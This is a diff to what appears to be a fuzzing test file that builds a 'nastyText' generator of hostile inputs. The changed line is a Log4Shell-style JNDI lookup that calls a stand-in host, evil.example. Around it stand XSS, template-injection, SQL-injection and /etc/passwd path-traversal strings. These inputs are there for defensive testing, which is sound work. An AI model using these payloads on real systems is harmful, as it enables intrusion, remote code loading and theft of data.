@@ -21,8 +21,7 @@ export const nastyText = fc.oneof(
 		"<script>alert(1)</script>",
 		`"><img src=x onerror=alert(1)>`,
 		"{{constructor.constructor('x')()}}",
-		// biome-ignore lint/suspicious/noTemplateCurlyInString: somebody hopes that it is evaluated.
-		"${jndi:ldap://evil.example/a}",
+		`\${jndi:ldap://evil.example/a}`,
 		"'; drop table outbox; --",
 		"' or '1'='1",
 		"../../../../etc/passwd",
